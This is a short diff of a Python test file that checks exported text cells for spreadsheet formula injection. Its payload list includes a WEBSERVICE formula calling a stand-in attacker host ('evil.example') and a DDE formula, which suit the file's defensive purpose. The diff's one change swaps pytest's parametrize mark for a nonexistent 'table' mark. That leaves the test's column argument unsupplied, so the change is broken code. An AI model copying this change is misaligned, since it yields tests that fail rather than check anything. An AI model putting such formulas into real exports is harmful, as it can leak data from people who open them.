@@ -215,7 +215,7 @@ FORMULAS += ['=WEBSERVICE("http://evil.example")', "=A1", "=DDE()", "==", "+", "
 HARMLESS = ["O'Brien", "Ann-Marie", "a=b", "1+1", "Ada @ work", "’Abd", "'quoted", "#hash", "5"]
 
 
-@pytest.mark.parametrize("column", ["name", "credit", "occupation", "guilds"])
+@pytest.mark.table("column", ["name", "credit", "occupation", "guilds"])
 def test_no_cell_is_a_formula(column):
     text = make_text()
     for number, payload in enumerate([*FORMULAS, *HARMLESS]):
